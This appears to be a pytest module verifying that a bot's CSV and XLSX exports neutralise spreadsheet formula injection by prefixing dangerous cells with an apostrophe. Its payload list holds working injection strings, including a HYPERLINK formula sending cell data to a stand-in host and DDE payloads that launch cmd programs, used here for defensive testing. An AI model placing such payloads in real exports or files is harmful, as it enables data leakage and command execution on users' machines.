"""Formula injection: a payload list through every csv and xlsx export yields no formula cell
and no raw dangerous csv field (OWASP's CSV-injection rule, cards/cells.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from fractions import Fraction
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from cards.cells import DANGEROUS, safe_cell, unquote_cell
from cards.poll_cards import PollView, ResultView, minutes_csv
from dialogs.catalogue import (
    ExportRequirements,
    ImportRequirements,
    export_requirements,
    import_requirements,
)
from dialogs.reviews.export import ReviewTables
from dialogs.reviews.export import to_csv as reviews_csv
from dialogs.reviews.export import to_xlsx as reviews_xlsx
from storage.database import Database
from tests.catalogue_support import add_groups, write_csv
from tests.support.decision_log import add_groups as add_log_groups

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
)


def _csv_fields(content: str) -> list[str]:
    return [field for row in csv.reader(io.StringIO(content)) for field in row]


def _assert_safe_csv(content: str) -> None:
    fields = _csv_fields(content)
    for payload in PAYLOADS:
        assert payload not in fields, payload
        # Some workflows strip what they store (a title), so the leading tab may be gone.
        assert {"'" + payload, "'" + payload.strip()} & set(fields), payload
    assert not [f for f in fields if f[:1] in DANGEROUS]


def _assert_safe_xlsx(data: bytes | Path) -> None:
    workbook = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                values.append(cell.value)
    # XML stores a carriage return as a line feed.
    texts = [v.replace("\r", "\n") for v in values if isinstance(v, str)]
    for payload in PAYLOADS:
        shown = {"'" + payload.replace("\r", "\n"), "'" + payload.strip()}
        assert shown & set(texts), payload
    assert not [v for v in texts if v[:1] in (*DANGEROUS, "\n")]


def test_the_rule_and_its_inverse() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
        assert unquote_cell(str(safe_cell(payload))) == payload
    assert safe_cell("Godkjent") == "Godkjent"
    assert safe_cell(7) == 7
    assert unquote_cell("'vanlig") == "'vanlig"


def test_review_exports() -> None:
    tables = ReviewTables(
        "Runde",
        "=Regel",
        [["Krav", "Status"], *[[p, p] for p in PAYLOADS]],
        [["Krav", "Kommentar"], *[["HJT-1", p] for p in PAYLOADS]],
        [["Krav", "Forslag"], *[["HJT-1", p] for p in PAYLOADS]],
    )
    _assert_safe_csv(reviews_csv(tables, "nb").decode("utf-8"))
    _assert_safe_xlsx(reviews_xlsx(tables, "nb"))


def test_poll_minutes_csv() -> None:
    moment = datetime(2026, 12, 4, 14, tzinfo=UTC)
    options = tuple((str(n), p) for n, p in enumerate(PAYLOADS))
    view = PollView(
        1,
        PAYLOADS[0],
        "",
        "STY",
        options,
        moment,
        Fraction(1, 2),
        "simple",
        False,
        False,
        False,
        3,
        3,
    )
    result = ResultView(
        view,
        "decided",
        "0",
        (),
        False,
        True,
        3,
        0,
        {},
        moment,
        "deadline",
        None,
        votes=tuple((p, p) for p in PAYLOADS),
    )
    _assert_safe_csv(minutes_csv("nb", result, view))


@pytest.fixture
def cli(clean_env: Path, monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
    monkeypatch.setenv("KRAVBOT_DATABASE_URL", database_url)
    monkeypatch.setenv("KRAVBOT_LANGUAGE", "en")
    add_log_groups(database_url, ("STY", "Styringsgruppe", "steering"))
    return database_url


def test_decision_exports(cli: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for payload in PAYLOADS:
        args = ["decisions", "add", "--title", payload, "--text", payload, "--group", "STY"]
        assert main([*args, "--outcome", payload, "--by", payload]) == 0
    capsys.readouterr()
    assert main(["export", "decisions", "--format", "csv"]) == 0
    _assert_safe_csv(capsys.readouterr().out.lstrip("\ufeff"))
    target = tmp_path / "d.xlsx"
    assert main(["export", "decisions", "--format", "xlsx", "-o", str(target)]) == 0
    _assert_safe_xlsx(target)


async def test_requirement_exports_and_their_round_trip(db: Database, tmp_path: Path) -> None:
    await add_groups(db)
    rows = [
        [f"HJT-{n:03}", payload, "Skal", "HJT", "", "", ""] for n, payload in enumerate(PAYLOADS, 1)
    ]
    await import_requirements(db, ImportRequirements(write_csv(tmp_path / "in.csv", rows)))
    stream = io.StringIO()
    await export_requirements(db, ExportRequirements("csv", stream, language="en"))
    fields = _csv_fields(stream.getvalue())
    assert not [f for f in fields if f[:1] in DANGEROUS]
    path = tmp_path / "k.xlsx"
    await export_requirements(db, ExportRequirements("xlsx", path, language="en"))
    workbook = load_workbook(path)
    cells = [c for s in workbook.worksheets for r in s.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c for c in cells if isinstance(c.value, str) and c.value[:1] in DANGEROUS]
    # Reading the export back gives the same catalogue: the apostrophe is the export's own.
    plan = (await import_requirements(db, ImportRequirements(path))).plan
    assert len(plan.unchanged) == len(PAYLOADS)
